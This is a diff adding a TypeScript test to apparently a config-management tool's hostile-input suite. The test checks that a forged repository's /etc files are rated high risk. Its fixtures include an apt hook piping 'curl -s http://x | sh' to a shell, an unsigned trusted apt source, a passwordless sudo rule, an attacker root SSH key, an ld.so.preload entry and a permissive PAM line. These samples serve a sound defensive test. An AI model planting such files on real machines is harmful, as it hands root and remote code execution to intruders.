@@ -441,6 +441,67 @@ describe('hostile twin corpus: the twin is untrusted input', function () {
     assert.equal(git(rig.twin, ['status', '--porcelain']), '', 'the working twin is clean')
   })
 
+  // Session 19: a pulled twin that hands out root or changes whom the machine trusts was rated
+  // like any file of /etc: an apt hook, a source with [trusted=yes] and /etc/ld.so.preload were
+  // low-risk creates, a NOPASSWD sudo rule medium. Each is high now, with its reason, in the plan
+  // both front ends show and in the sealed plan apply reads back.
+  it('pull of a twin with an apt hook, a trusted=yes source, a signed-by key, a NOPASSWD sudo rule, authorized keys, ld.so.preload, a PAM line: each high risk with its reason', async () => {
+    const files: Record<string, string> = {
+      'etc/apt/apt.conf.d/99hook': 'DPkg::Pre-Invoke { "touch /tmp/pwned"; };\n',
+      'etc/apt/apt.conf.d/98update': 'APT::Update::Pre-Invoke {"curl -s http://x | sh";};\n',
+      'etc/apt/apt.conf.d/10proxy': 'Acquire::http::Proxy "http://proxy:3128";\n',
+      'etc/apt/sources.list.d/evil.list': 'deb [trusted=yes] http://evil.example/debian bookworm main\n',
+      'etc/apt/sources.list.d/weak.sources': 'Types: deb\nURIs: http://weak.example/debian\nSuites: bookworm\nComponents: main\nAllow-Insecure: yes\n',
+      'etc/apt/sources.list.d/vendor.sources': 'Types: deb\nURIs: https://vendor.example/debian\nSuites: bookworm\nComponents: main\nSigned-By: /etc/vendor/key.asc\n',
+      'etc/vendor/key.asc': '-----BEGIN PGP PUBLIC KEY BLOCK-----\nmQINBGRvendor\n-----END PGP PUBLIC KEY BLOCK-----\n',
+      'etc/apt/trusted.gpg.d/evil.asc': '-----BEGIN PGP PUBLIC KEY BLOCK-----\nmQINBGRevil\n-----END PGP PUBLIC KEY BLOCK-----\n',
+      'etc/sudoers.d/mallory': 'mallory ALL=(ALL) NOPASSWD: ALL\n',
+      'etc/ssh/authorized_keys/root': 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAttackerKeyAttackerKeyAttackerKey attacker\n',
+      'etc/ld.so.preload': '/usr/local/lib/evil.so\n',
+      'etc/pam.d/sshd': 'auth sufficient pam_permit.so\n',
+      'etc/issue.net': 'hello\n',
+    }
+    serve((clone) => {
+      for (const [path, text] of Object.entries(files)) {
+        execFileSync('mkdir', ['-p', join(clone, 'filesystem', path, '..')])
+        execFileSync('sh', ['-c', 'printf %s "$1" > "$2"', 'sh', text, join(clone, 'filesystem', path)])
+      }
+      git(clone, ['add', '-A'])
+      git(clone, ['commit', '--quiet', '-m', 'forged: root and trust'])
+    })
+    assert.equal((await (await rig.container()).resolve(RemoteService).pull()).status, 'fast-forwarded')
+    const plan = await (await rig.container()).resolve(PlanWorkflow).plan({})
+    const rated = Object.fromEntries(plan.changes.filter((c) => c.operation === 'create').map((c) => [c.resource, `${c.risk}${c.riskReason === undefined ? '' : `: ${c.riskReason}`}`]))
+    assert.deepEqual(rated, {
+      '/etc/apt/apt.conf.d/10proxy': 'low',
+      '/etc/apt/apt.conf.d/98update': 'high: an apt hook: runs its command as root on every apt or dpkg run',
+      '/etc/apt/apt.conf.d/99hook': 'high: an apt hook: runs its command as root on every apt or dpkg run',
+      '/etc/apt/sources.list.d/evil.list': 'high: an apt source trusted without a valid signature (trusted/allow-insecure): its packages install as root unchecked',
+      '/etc/apt/sources.list.d/vendor.sources': 'low',
+      '/etc/apt/sources.list.d/weak.sources': 'high: an apt source trusted without a valid signature (trusted/allow-insecure): its packages install as root unchecked',
+      '/etc/apt/trusted.gpg.d/evil.asc': 'high: an apt signing key: packages it signs install as root',
+      '/etc/issue.net': 'low',
+      '/etc/ld.so.preload': 'high: a library loaded into every program, root\'s too',
+      '/etc/pam.d/sshd': 'high: PAM: how logins, su and sudo check who you are',
+      '/etc/ssh/authorized_keys/root': 'high: SSH authorized keys: each key logs in as that user',
+      '/etc/sudoers.d/mallory': 'high: a sudo rule without a password: root for whoever it names',
+      '/etc/vendor/key.asc': 'high: an apt signing key: packages it signs install as root',
+    })
+    // Both front ends: the CLI's plan (apply and pull print the same) and the TUI's row and detail.
+    const { renderPlan } = await import('../../core/src/cli/render-plan.js')
+    assert.match(renderPlan(plan), /create \/etc\/apt\/apt\.conf\.d\/99hook  \[high risk\]\n +high risk: an apt hook: runs its command as root/)
+    assert.match(renderPlan(plan), /files +\d+ +\(.*\) +10 high risk/)
+    const { changeLines } = await import('../../core/src/tui/change-detail.js')
+    const hook = plan.changes.find((c) => c.resource === '/etc/apt/apt.conf.d/99hook')
+    assert.ok(hook !== undefined)
+    assert.ok(changeLines(hook).some((l) => l.text === 'risk: high (an apt hook: runs its command as root on every apt or dpkg run)'))
+    // Sealed and read back: the reason is part of what was approved.
+    const path = join(rig.dir, 'trust-plan.json')
+    await writePlanFile(path, plan, rig.twin)
+    const back = await readPlanFile(path, { root: rig.root, repo: rig.twin })
+    assert.equal(back.changes.find((c) => c.resource === '/etc/sudoers.d/mallory')?.riskReason, 'a sudo rule without a password: root for whoever it names')
+  })
+
   // Session 14: text from the pulled twin reaches the terminal as names (a path, a change id, a
   // diagnostic's summary, a commit message). The CLI spells out what a terminal would act on or
   // hide (core/src/terminal-text.ts); --json keeps the exact text, and `discard` takes an id as printed.
